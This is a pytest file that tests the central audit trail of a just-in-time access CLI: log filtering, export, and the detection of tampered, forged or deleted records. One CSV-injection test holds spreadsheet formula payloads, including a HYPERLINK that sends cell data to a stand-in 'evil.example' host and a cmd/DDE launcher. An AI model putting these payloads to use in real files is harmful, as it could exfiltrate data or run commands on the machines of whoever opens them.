"""The team's central audit trail end to end: the installed CLI, several people, moto's server."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest

from jitctl.audit.log import record_hash
from tests.harness import Team
from tests.test_cli_request import on_call

ALICE, BOB, CAROL = "alice@example.com", "bob@example.com", "carol@example.com"


def _aws(team: Team, service: str):
    return team.admin_client(service)


def _audit_config(team: Team, *, table: str | None, bucket: str | None, extra: str = "") -> None:
    lines = ["[audit]"]
    lines += [f'table = "{table}"'] if table else []
    lines += [f'bucket = "{bucket}"', 'prefix = "audit/"'] if bucket else []
    team.config.write_text(team.config.read_text() + "\n".join(lines) + "\n" + extra)


@pytest.fixture
def team(team) -> Team:
    """The shared team, with a central audit table and bucket created by `jitctl init`."""
    t = team
    t.audit_table = f"jitctl-audit-{uuid.uuid4().hex[:8]}"
    t.audit_bucket = f"jitctl-audit-{uuid.uuid4().hex[:8]}"
    _aws(t, "s3").create_bucket(Bucket=t.audit_bucket)
    _audit_config(t, table=t.audit_table, bucket=t.audit_bucket)
    out = t.run(ALICE, "init", "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["audit_sinks"] == [
        f"dynamodb:{t.audit_table}",
        f"s3:{t.audit_bucket}/audit/",
    ]
    assert t.run(ALICE, "init").returncode == 0  # twice is harmless
    return t


def _ok(out) -> str:
    assert out.returncode == 0, out.stderr
    return out.stdout


def approved_and_issued(team: Team, reason: str = "INC-21 disk full") -> str:
    """Alice asks, Bob approves, Alice collects: records from two people."""
    request_id = _ok(team.run(ALICE, "request", "prod-readonly", "--reason", reason, "--no-wait"))
    request_id = request_id.strip()
    _ok(team.run(BOB, "approve", request_id, "--reason", "go ahead"))
    _ok(team.run(ALICE, "wait", request_id))
    return request_id


def log_json(team: Team, user: str, *args: str) -> list[dict]:
    return json.loads(_ok(team.run(user, "audit", "log", "--json", *args)))


def test_init_creates_the_audit_table(team):
    desc = _aws(team, "dynamodb").describe_table(TableName=team.audit_table)["Table"]
    assert desc["TableStatus"] == "ACTIVE"
    assert [k["AttributeName"] for k in desc["KeySchema"]] == ["chain", "seq"]


@pytest.mark.slow
def test_central_log_holds_everyone_and_filters(team):
    request_id = approved_and_issued(team)
    other = _ok(team.run(CAROL, "request", "prod-admin", "--reason", "INC-22", "--no-wait"))
    other = other.strip()

    records = log_json(team, CAROL)  # Carol reads what Alice and Bob wrote on their machines
    assert {r["person"] for r in records} == {ALICE, BOB, CAROL}
    assert records == sorted(records, key=lambda r: (r["ts"], r["chain"], r["seq"]))
    local = team.audit_records(ALICE) + team.audit_records(BOB) + team.audit_records(CAROL)
    assert sorted(records, key=record_hash) == sorted(local, key=record_hash)

    mine = log_json(team, CAROL, "--request", request_id)
    assert {r["request_id"] for r in mine} == {request_id}
    assert [r["event"] for r in mine if r["person"] == BOB] == ["approved"]
    assert "issued" in [r["event"] for r in mine]
    bobs = log_json(team, ALICE, "--person", "BOB@example.com")
    assert bobs and {r["person"] for r in bobs} == {BOB}
    assert log_json(team, ALICE, "--local") == team.audit_records(ALICE)
    assert len(log_json(team, ALICE, "--since", "1h")) == len(records)
    assert log_json(team, ALICE, "--since", "2999-01-01T00:00:00Z") == []
    assert [r["request_id"] for r in log_json(team, ALICE, "--request", other)] == [other] * 2

    out = team.run(ALICE, "audit", "log", "--since", "yesterday")
    assert out.returncode == 2 and "--since" in out.stderr
    human = _ok(team.run(ALICE, "audit", "log", "--request", request_id))
    assert request_id in human and "approved" in human and "go ahead" in human


@pytest.mark.slow
def test_export_csv_and_jsonl(team):
    approved_and_issued(team, reason='INC-23 "quoted", with commas\nand a newline')
    records = log_json(team, BOB)
    rows = list(
        csv.DictReader(io.StringIO(_ok(team.run(BOB, "audit", "export", "--format", "csv"))))
    )
    assert len(rows) == len(records)
    assert list(rows[0]) == [
        "ts",
        "event",
        "request_id",
        "actor",
        "person",
        "role",
        "prev",
        "hash",
        "details",
    ]
    for row, record in zip(rows, records, strict=True):
        assert row["hash"] == record["hash"] and row["person"] == record["person"]
        details = json.loads(row["details"])
        assert details["chain"] == record["chain"] and details["seq"] == record["seq"]
    reasons = [json.loads(r["details"]).get("reason") for r in rows]
    assert 'INC-23 "quoted", with commas and a newline' in reasons  # clean() made it one line
    lines = _ok(team.run(BOB, "audit", "export", "--format", "jsonl")).splitlines()
    assert [json.loads(line) for line in lines] == records
    assert all(record_hash(json.loads(line)) == json.loads(line)["hash"] for line in lines)
    assert team.run(BOB, "audit", "export", "--format", "xml").returncode == 2


@pytest.mark.slow
def test_verify_remote_passes_then_catches_a_tampered_central_record(team):
    approved_and_issued(team)
    for user in (ALICE, BOB):
        out = team.run(user, "audit", "verify", "--remote")
        assert out.returncode == 0, out.stderr
        assert "chains intact" in out.stdout
    bob_record = team.audit_records(BOB)[0]
    edited = {**bob_record, "reason": "nothing to see here"}
    _aws(team, "dynamodb").put_item(
        TableName=team.audit_table,
        Item={
            "chain": {"S": bob_record["chain"]},
            "seq": {"N": str(bob_record["seq"])},
            "record": {"S": json.dumps(edited, sort_keys=True, separators=(",", ":"))},
        },
    )
    out = team.run(ALICE, "audit", "verify", "--remote", "--json")
    assert out.returncode == 6
    where = f"chain {bob_record['chain']} seq {bob_record['seq']}"
    assert where in out.stderr and "hash mismatch" in out.stderr
    doc = json.loads(out.stdout)
    assert doc["ok"] is False and doc["remote"][0]["seq"] == bob_record["seq"]
    assert team.run(ALICE, "audit", "verify").returncode == 0  # the local log is fine


@pytest.mark.slow
def test_verify_remote_catches_a_removed_newest_record(team):
    approved_and_issued(team)
    newest = team.audit_records(ALICE)[-1]
    s3 = _aws(team, "s3")
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=team.audit_bucket)["Contents"]]
    (key,) = [k for k in keys if k.endswith(f"/{newest['chain']}/{newest['seq']:010d}.json")]
    s3.delete_object(Bucket=team.audit_bucket, Key=key)
    out = team.run(ALICE, "audit", "verify", "--remote")
    assert out.returncode == 6
    assert f"s3:{team.audit_bucket}/audit/: chain {newest['chain']} seq {newest['seq']}" in (
        out.stderr
    )
    assert team.run(BOB, "audit", "verify", "--remote").returncode == 0  # Bob cannot tell


def test_verify_remote_without_a_sink_is_a_usage_error(tmp_path, moto_server, pd_sim):
    team = Team(tmp_path, moto_server, pd_sim)
    out = team.run(ALICE, "audit", "verify", "--remote")
    assert out.returncode == 2 and "no central audit sink" in out.stderr


@pytest.fixture
def broken(tmp_path, moto_server, pd_sim) -> Team:
    """A team whose audit table was never created (nobody ran `jitctl init`)."""
    t = Team(tmp_path, moto_server, pd_sim)
    t.audit_table = f"jitctl-never-created-{uuid.uuid4().hex[:8]}"
    return t


def test_failing_central_sink_blocks_issuing(broken):
    _audit_config(broken, table=broken.audit_table, bucket=None)
    on_call(broken, ALICE)
    out = broken.run(ALICE, "request", "prod-readonly", "--reason", "INC-24")
    assert out.returncode == 5, out.stderr
    assert "central audit sink failed" in out.stderr and "jitctl init" in out.stderr
    assert not broken.credentials_file(ALICE).exists()
    records = broken.audit_records(ALICE)
    assert [r["event"] for r in records] == ["requested", "audit_sink_failed"]
    assert records[1]["sink"] == f"dynamodb:{broken.audit_table}"
    assert "Traceback" not in out.stderr


def test_optional_central_sink_lets_it_through_with_a_warning(broken):
    _audit_config(broken, table=broken.audit_table, bucket=None, extra="required = false\n")
    on_call(broken, ALICE)
    out = broken.run(ALICE, "request", "prod-readonly", "--reason", "INC-25", "--json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["status"] == "issued"
    assert out.stderr.count("warning: the central audit sink failed") == 1
    assert broken.credentials_file(ALICE).exists()
    events = [r["event"] for r in broken.audit_records(ALICE)]
    assert events.count("audit_sink_failed") == 3 and events[-2] == "issued"
    assert broken.run(ALICE, "audit", "verify").returncode == 0


def test_sink_failing_at_issue_time_drops_the_credentials(team):
    request_id = _ok(team.run(ALICE, "request", "prod-readonly", "--reason", "INC-26", "--no-wait"))
    _ok(team.run(BOB, "approve", request_id.strip()))
    ddb = _aws(team, "dynamodb")
    ddb.update_table(TableName=team.audit_table, DeletionProtectionEnabled=False)
    ddb.delete_table(TableName=team.audit_table)
    out = team.run(ALICE, "wait", request_id.strip())
    assert out.returncode == 5, out.stderr
    assert "central audit sink failed" in out.stderr
    assert not team.credentials_file(ALICE).exists()


# ------------------------------------------------------------------ issue 9 items 5 and 10


def _set(team: Team, line: str) -> None:
    """Add a key to the [audit] section (the last one in the config)."""
    team.config.write_text(team.config.read_text() + line + "\n")


def _signing_key(team: Team) -> str:
    kms = _aws(team, "kms")
    key = kms.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
    alias = f"alias/jitctl-audit-{uuid.uuid4().hex[:8]}"
    kms.create_alias(AliasName=alias, TargetKeyId=key["KeyId"])
    _set(team, f'kms_key = "{alias}"')
    return alias


def _put_record(team: Team, record: dict, **attributes: str) -> None:
    """A PutItem with a requester's own keys: any record, any top-level attributes."""
    _aws(team, "dynamodb").put_item(
        TableName=team.audit_table,
        Item={
            "chain": {"S": record["chain"]},
            "seq": {"N": str(record["seq"])},
            "record": {"S": json.dumps(record, sort_keys=True, separators=(",", ":"))},
            **{k: {"S": v} for k, v in attributes.items()},
        },
    )


def _forged(chain: str, seq: int, prev: str | None, **fields) -> dict:
    record = {
        "ts": "2026-11-21T04:00:00Z",
        "event": "approved",
        "request_id": "forged",
        "actor": "arn:aws:iam::123456789012:user/bob@example.com",
        "person": BOB,
        "role": "prod-admin",
        "chain": chain,
        "seq": seq,
        "prev": prev,
        **fields,
    }
    record["hash"] = record_hash(record)
    return record


@pytest.mark.slow
def test_signed_trail_catches_a_forged_chain_and_an_edited_record(team):
    _signing_key(team)
    approved_and_issued(team)
    out = team.run(BOB, "audit", "verify", "--remote")
    assert out.returncode == 0, out.stderr
    assert "every record signed by the audit key" in out.stdout
    items = _aws(team, "dynamodb").scan(TableName=team.audit_table)["Items"]
    assert items and all(i["sig"]["S"] and i["key_id"]["S"].startswith("arn:") for i in items)

    # A self-consistent chain attributed to Bob, written with nothing but PutItem.
    first = _forged("forgedchain", 1, None)
    _put_record(team, first)
    _put_record(team, _forged("forgedchain", 2, first["hash"], event="issued"))
    out = team.run(CAROL, "audit", "verify", "--remote", "--json")
    assert out.returncode == 6, out.stderr
    assert f"dynamodb:{team.audit_table}: chain forgedchain seq 1" in out.stderr
    assert "no signature" in out.stderr and "Traceback" not in out.stderr
    assert json.loads(out.stdout)["ok"] is False
    _aws(team, "dynamodb").delete_item(
        TableName=team.audit_table, Key={"chain": {"S": "forgedchain"}, "seq": {"N": "1"}}
    )
    _aws(team, "dynamodb").delete_item(
        TableName=team.audit_table, Key={"chain": {"S": "forgedchain"}, "seq": {"N": "2"}}
    )
    assert team.run(CAROL, "audit", "verify", "--remote").returncode == 0

    # Alice rewrites her newest record (issued -> cancelled) and rehashes it; its signature
    # attribute stays. Carol has no copy of Alice's log: only the signature can tell.
    newest = team.audit_records(ALICE)[-1]
    edited = {**newest, "event": "cancelled"}
    edited["hash"] = record_hash(edited)
    _aws(team, "dynamodb").update_item(
        TableName=team.audit_table,
        Key={"chain": {"S": newest["chain"]}, "seq": {"N": str(newest["seq"])}},
        UpdateExpression="SET #r = :r",
        ExpressionAttributeNames={"#r": "record"},
        ExpressionAttributeValues={
            ":r": {"S": json.dumps(edited, sort_keys=True, separators=(",", ":"))}
        },
    )
    out = team.run(CAROL, "audit", "verify", "--remote")
    assert out.returncode == 6
    assert f"chain {newest['chain']} seq {newest['seq']}" in out.stderr
    assert "bad signature" in out.stderr


@pytest.mark.slow
def test_rewritten_person_and_ts_attributes_do_not_hide_records(team):
    request_id = approved_and_issued(team)
    ddb = _aws(team, "dynamodb")
    mine = [i for i in ddb.scan(TableName=team.audit_table)["Items"] if i["person"]["S"] == ALICE]
    assert mine
    for item in mine:  # the top-level copies a requester can rewrite without touching a hash
        ddb.update_item(
            TableName=team.audit_table,
            Key={"chain": item["chain"], "seq": item["seq"]},
            UpdateExpression="SET #p = :p, #t = :t",
            ExpressionAttributeNames={"#p": "person", "#t": "ts"},
            ExpressionAttributeValues={
                ":p": {"S": "nobody@example.com"},
                ":t": {"S": "1970-01-01T00:00:00Z"},
            },
        )
    found = log_json(team, CAROL, "--person", ALICE, "--since", "1h")
    assert len(found) == len(mine) and {r["person"] for r in found} == {ALICE}
    assert request_id in {r["request_id"] for r in found}
    assert log_json(team, CAROL, "--person", "nobody@example.com") == []
    # An edit of the record itself (hash not recomputed) is shown, with a warning.
    first = json.loads(mine[0]["record"]["S"])
    _put_record(team, {**first, "person": "nobody@example.com"})
    out = team.run(CAROL, "audit", "log", "--person", "nobody@example.com", "--json")
    assert out.returncode == 0 and len(json.loads(out.stdout)) == 1
    assert "1 of these records" in out.stderr and "fail their hash check" in out.stderr


def test_csv_export_never_writes_a_formula(team):
    """Issue 9 item 10: a record's text that a spreadsheet would evaluate."""
    formulas = {
        "person": '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "role": "+1+cmd|' /C calc'!A0",
        "request_id": "@SUM(1+1)",
        "event": "-2+3",
        "actor": "\t=1+1",
        "ts": "\r=1+1",
    }
    _put_record(team, _forged("csvchain", 1, None, **formulas))
    _put_record(team, _forged("csvchain", 2, None, person=" =1+1", reason="=1+1"))
    out = team.run(ALICE, "audit", "export", "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    first = next(r for r in rows if json.loads(r["details"])["seq"] == 1)
    for column, text in formulas.items():  # (text-mode stdout turned the \r into \n)
        assert first[column][0] == "'" and first[column][1:].strip() == text.strip()
    second = next(r for r in rows if json.loads(r["details"])["seq"] == 2)
    assert second["person"] == "' =1+1"
    assert json.loads(second["details"])["reason"] == "=1+1"  # inside JSON, after "{"
    assert second["role"] == "prod-admin" and second["hash"] == second["hash"].lstrip("'")


def test_doctor_says_plainly_who_can_rewrite_the_central_copy(team):
    team.pd_user(ALICE)
    out = team.run(ALICE, "doctor", "--json")
    assert out.returncode == 0, out.stdout + out.stderr  # warnings do not fail the doctor
    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
    for sink in (f"dynamodb:{team.audit_table}", f"s3:{team.audit_bucket}/audit/"):
        check = checks[f"audit writers: {sink}"]
        assert check["status"] == "warn" and "can write records to it" in check["detail"]
        assert "broker" in check["fix"]
    lock = checks[f"audit object lock: s3:{team.audit_bucket}/audit/"]
    assert lock["status"] == "warn" and "Object Lock is off" in lock["detail"]
    human = team.run(ALICE, "doctor")
    assert human.returncode == 0 and "! audit writers" in human.stdout


def test_doctor_checks_object_lock_retention_and_the_signing_key(team):
    team.pd_user(ALICE)
    _set(team, "retention_days = 30")
    out = team.run(ALICE, "doctor", "--json")  # the bucket has no Object Lock: writes would fail
    assert out.returncode == 2
    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
    lock = checks[f"audit object lock: s3:{team.audit_bucket}/audit/"]
    assert lock["status"] == "fail" and "no Object Lock" in lock["detail"]
    assert team.run(ALICE, "init").returncode == 2

    locked = f"jitctl-audit-{uuid.uuid4().hex[:8]}"
    _aws(team, "s3").create_bucket(Bucket=locked, ObjectLockEnabledForBucket=True)
    team.config.write_text(team.config.read_text().replace(team.audit_bucket, locked))
    _signing_key(team)
    out = team.run(ALICE, "doctor", "--json")
    assert out.returncode == 0, out.stdout
    checks = {c["name"]: c for c in json.loads(out.stdout)["checks"]}
    lock = checks[f"audit object lock: s3:{locked}/audit/"]
    assert lock["status"] == "pass" and "COMPLIANCE, each record kept 30 days" in lock["detail"]
    key = checks["audit signing key"]
    assert key["status"] == "warn" and "can sign" in key["detail"]  # no IAM in this moto
    on_call(team, ALICE)
    assert team.run(ALICE, "request", "prod-readonly", "--reason", "INC-27").returncode == 0
    record = team.audit_records(ALICE)[-1]
    s3 = _aws(team, "s3")
    (obj,) = [
        o
        for o in s3.list_objects_v2(Bucket=locked)["Contents"]
        if o["Key"].endswith(f"/{record['chain']}/{record['seq']:010d}.json")
    ]
    head = s3.head_object(Bucket=locked, Key=obj["Key"])
    assert head["ObjectLockMode"] == "COMPLIANCE" and head["Metadata"]["jitctl-sig"]
    assert team.run(ALICE, "audit", "verify", "--remote").returncode == 0


def test_audit_log_shows_who_approved(team):
    """The `approved` rows name the decider and the approvers, not only the requester."""
    request_id = approved_and_issued(team)
    rows = [
        line
        for line in _ok(team.run(ALICE, "audit", "log", "--request", request_id)).splitlines()
        if " approved " in line
    ]
    assert len(rows) == 2, rows  # Bob's decision, and Alice seeing it before issuing
    bobs = next(r for r in rows if "alice@example.com" not in r)
    assert "by bob@example.com" in bobs and "1/1 approvals" in bobs and "go ahead" in bobs
    alices = next(r for r in rows if "alice@example.com" in r)
    assert "by bob@example.com" in alices and "approvers: bob@example.com" in alices
